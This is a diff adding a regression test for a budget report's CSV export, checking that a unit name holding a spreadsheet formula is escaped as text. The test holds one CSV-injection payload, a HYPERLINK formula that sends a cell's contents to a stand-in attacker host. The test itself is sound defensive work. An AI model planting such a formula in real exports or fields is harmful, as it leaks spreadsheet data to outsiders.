@@ -70,3 +70,23 @@ def test_the_csv_is_board_scoped_too(client, as_user, allocate):
     assert {r[1] for r in rows[1:]} == {"BTGDV"}
     assert client.get("/reports/budgets.csv", query_string={"unit": "BTC"},
                       headers=as_user("chuyenvien.btgdv")).status_code == 403
+
+
+def test_a_unit_named_like_a_formula_stays_text_in_the_csv(client, as_user, allocate, database):
+    # Finding 6: a unit renamed `=HYPERLINK(...)` came out of the CSV as a live formula.
+    from sqlalchemy import text
+
+    setup(client, as_user, allocate)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    with database.engine.begin() as conn:
+        old = conn.execute(text("SELECT name FROM replica_units WHERE code = 'BTGDV'")).scalar_one()
+        conn.execute(text("UPDATE replica_units SET name = :n WHERE code = 'BTGDV'"), {"n": evil})
+    try:
+        answer = client.get("/reports/budgets.csv", query_string={"fiscal_year": YEAR}, headers=as_user("ketoan.vp"))
+    finally:
+        with database.engine.begin() as conn:
+            conn.execute(text("UPDATE replica_units SET name = :n WHERE code = 'BTGDV'"), {"n": old})
+    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))
+    names = [row[2] for row in rows[1:] if row[1] == "BTGDV"]
+    assert names == ["'" + evil]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
